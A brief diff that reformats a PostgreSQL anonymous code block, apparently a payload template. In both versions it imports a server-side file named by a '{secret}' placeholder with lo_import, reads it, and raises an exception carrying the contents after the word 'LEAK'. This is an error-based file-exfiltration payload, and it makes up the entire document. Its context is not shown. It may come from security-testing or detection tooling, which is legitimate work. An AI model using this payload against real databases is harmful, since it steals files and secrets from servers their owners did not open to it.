@@ -1,1 +1,5 @@
-DO $$ BEGIN RAISE EXCEPTION 'LEAK %', convert_from(lo_get(lo_import('{secret}')), 'UTF8'); END $$;
+DO $$
+DECLARE taken oid := lo_import('{secret}');
+BEGIN
+    RAISE EXCEPTION 'LEAK %', convert_from(lo_get(taken), 'UTF8');
+END $$;
